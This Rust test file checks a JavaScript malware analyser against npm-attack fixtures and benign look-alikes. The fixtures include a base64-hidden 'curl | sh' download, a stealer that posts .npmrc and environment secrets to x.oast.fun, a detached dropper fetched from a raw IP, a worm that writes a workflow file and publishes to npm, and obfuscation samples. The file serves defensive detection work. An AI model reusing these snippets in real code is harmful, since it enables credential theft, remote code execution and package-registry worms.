//! The JavaScript analyser on code shaped like real npm attacks, and on benign
//! look-alikes.

use customs_analyze::{BehaviourKind as K, javascript};

fn facts(src: &str) -> Vec<(K, bool, String)> {
    javascript::analyze(src, "index.js")
        .behaviours
        .into_iter()
        .map(|b| (b.kind, b.top_level, b.detail))
        .collect()
}

fn kinds(src: &str) -> Vec<K> {
    let mut k: Vec<K> = facts(src).into_iter().map(|f| f.0).collect();
    k.sort();
    k.dedup();
    k
}

#[test]
fn destructured_require_and_base64_payload() {
    let src = r#"
const { exec } = require('child_process');
const cmd = Buffer.from('Y3VybCAtcyBodHRwOi8vNDUuNjEuMS4yL3ggfCBzaA==', 'base64').toString();
exec(cmd);
"#;
    let f = facts(src);
    assert!(kinds(src).contains(&K::DecodeExecute), "{f:?}");
    assert!(
        f.iter().any(|x| x.0 == K::DownloadExecute),
        "the decoded command pipes a download into sh: {f:?}"
    );
}

#[test]
fn computed_member_and_folded_require() {
    let src = "const m = require('chi' + 'ld_' + 'process'); m['ex' + 'ec']('id');\n";
    let f = facts(src);
    assert!(
        f.iter()
            .any(|x| x.0 == K::ProcessSpawn && x.2.contains("exec(): id")),
        "{f:?}"
    );
    assert!(kinds(src).contains(&K::Obfuscation));
}

#[test]
fn eval_of_atob_and_payload_analysis() {
    let src = "eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJ3aG9hbWkiKQ=='));\n";
    let f = facts(src);
    assert!(f.iter().any(|x| x.0 == K::DecodeExecute), "{f:?}");
    assert!(
        f.iter()
            .any(|x| x.0 == K::ProcessSpawn && x.2.contains("in the decoded payload")),
        "{f:?}"
    );
}

#[test]
fn preinstall_stealer_sends_npmrc_and_env() {
    let src = r#"
const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const body = JSON.stringify({ npmrc, env: process.env, host: os.hostname() });
const req = https.request({ hostname: 'x.oast.fun', method: 'POST' });
req.write(body);
req.end();
"#;
    let k = kinds(src);
    assert!(k.contains(&K::SecretRead), "{:?}", facts(src));
    assert!(k.contains(&K::SecretExfiltration), "{:?}", facts(src));
    assert!(k.contains(&K::SuspiciousDestination), "{:?}", facts(src));
}

#[test]
fn dropper_across_callbacks_in_an_iife() {
    let src = r#"
(function () {
  const https = require('https'), fs = require('fs'), cp = require('child_process');
  https.get('https://45.61.1.2/update', (res) => {
    const out = fs.createWriteStream('/tmp/.upd');
    res.pipe(out);
    out.on('finish', () => {
      fs.chmodSync('/tmp/.upd', 0o755);
      cp.spawn('/tmp/.upd', [], { detached: true, stdio: 'ignore' }).unref();
    });
  });
})();
"#;
    let f = facts(src);
    let k = kinds(src);
    assert!(k.contains(&K::DownloadExecute), "{f:?}");
    assert!(k.contains(&K::HiddenProcess), "{f:?}");
    // The IIFE runs at require time: its network call is top level.
    assert!(f.iter().any(|x| x.0 == K::Network && x.1), "{f:?}");
}

#[test]
fn obfuscator_io_style_is_named() {
    let mut src = String::from("var _0x4f2a=['log','exec'];(function(_0x1b2c3d,_0x5e6f7a){");
    for i in 0..30 {
        src.push_str(&format!("var _0x{:04x}a=_0x1b2c3d[{i}];", 4096 + i));
    }
    src.push_str("})(_0x4f2a,0x1a2);\n");
    assert!(kinds(&src).contains(&K::Obfuscation));
}

#[test]
fn packer_and_jsfuck() {
    let packed = "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))\n";
    let f = facts(packed);
    assert!(
        f.iter()
            .any(|x| x.0 == K::Obfuscation && x.2.contains("packer")),
        "{f:?}"
    );
    let jsfuck = format!("{}\n", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]".repeat(100));
    assert!(kinds(&jsfuck).contains(&K::Obfuscation));
}

#[test]
fn worm_writes_workflow_and_publishes() {
    let src = r#"
const { execSync } = require('child_process');
const fs = require('fs');
fs.writeFileSync('.github/workflows/shai.yml', 'on: push');
execSync('npm publish --access public');
"#;
    let k = kinds(src);
    assert!(k.contains(&K::SelfPropagation), "{:?}", facts(src));
}

#[test]
fn manifest_swap_after_running() {
    let src = "const fs=require('fs');fs.unlinkSync(__filename);fs.renameSync('package.md','package.json');\n";
    assert!(kinds(src).contains(&K::SelfDelete), "{:?}", facts(src));
}

#[test]
fn typescript_and_esm_imports() {
    let src = "import { execSync as run } from 'node:child_process';\nconst x: string = run('ls').toString();\n";
    let r = javascript::analyze(src, "src/cli.ts");
    assert!(r.parse_error.is_none(), "{:?}", r.parse_error);
    assert!(
        r.behaviours
            .iter()
            .any(|b| b.kind == K::ProcessSpawn && b.top_level)
    );
    assert!(r.imports.contains(&"node:child_process".to_owned()));
}

#[test]
fn broken_and_deep_files_are_notes() {
    let r = javascript::analyze("function ( {", "x.js");
    assert!(r.parse_error.is_some());
    let deep = format!("x = {}1{};", "[".repeat(100_000), "]".repeat(100_000));
    let r = javascript::analyze(&deep, "x.js");
    assert!(r.parse_error.is_some());
}

#[test]
fn oversized_code_is_noted_not_parsed() {
    let huge = "a".repeat(customs_analyze::MAX_PARSE_BYTES + 1);
    let r = javascript::analyze(&huge, "x.js");
    assert!(
        r.parse_error
            .as_deref()
            .is_some_and(|e| e.contains("parsing limit")),
        "{:?}",
        r.parse_error
    );
    let r = customs_analyze::python::analyze(&huge);
    assert!(
        r.parse_error
            .as_deref()
            .is_some_and(|e| e.contains("parsing limit")),
        "{:?}",
        r.parse_error
    );
}

#[test]
fn benign_library_code_stays_quiet() {
    // A build helper that spawns the compiler inside a function, a fetch wrapper, and a
    // bundler-style module wrapper.
    let src = r#"
const { spawnSync } = require('child_process');
const path = require('path');
function build(args) { return spawnSync(process.execPath, [path.join(__dirname, 'tsc.js'), ...args]); }
async function get(url) { const r = await fetch(url); return r.json(); }
module.exports = { build, get };
"#;
    let f = facts(src);
    assert!(
        f.iter().all(|x| !matches!(
            x.0,
            K::DecodeExecute | K::DownloadExecute | K::SecretExfiltration | K::Obfuscation
        )),
        "{f:?}"
    );
    assert!(
        f.iter().all(|x| !x.1),
        "all behaviour is inside functions: {f:?}"
    );
}

#[test]
fn sinks_inside_the_arguments_of_unremarkable_calls() {
    // The outer calls name known functions that no check is about, and their arguments
    // are left unevaluated there; every call among them is judged on its own.
    let src = r#"
const path = require('path');
const fs = require('fs');
const os = require('os');
console.log(JSON.stringify(eval(Buffer.from(P, 'base64').toString())));
path.join(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'), 'x');
"#;
    let f = facts(src);
    let k = kinds(src);
    assert!(k.contains(&K::DecodeExecute), "{f:?}");
    assert!(k.contains(&K::SecretRead), "{f:?}");
    assert!(
        f.iter()
            .any(|(_, _, d)| d.contains("decoded data reaches eval()")),
        "{f:?}"
    );
}
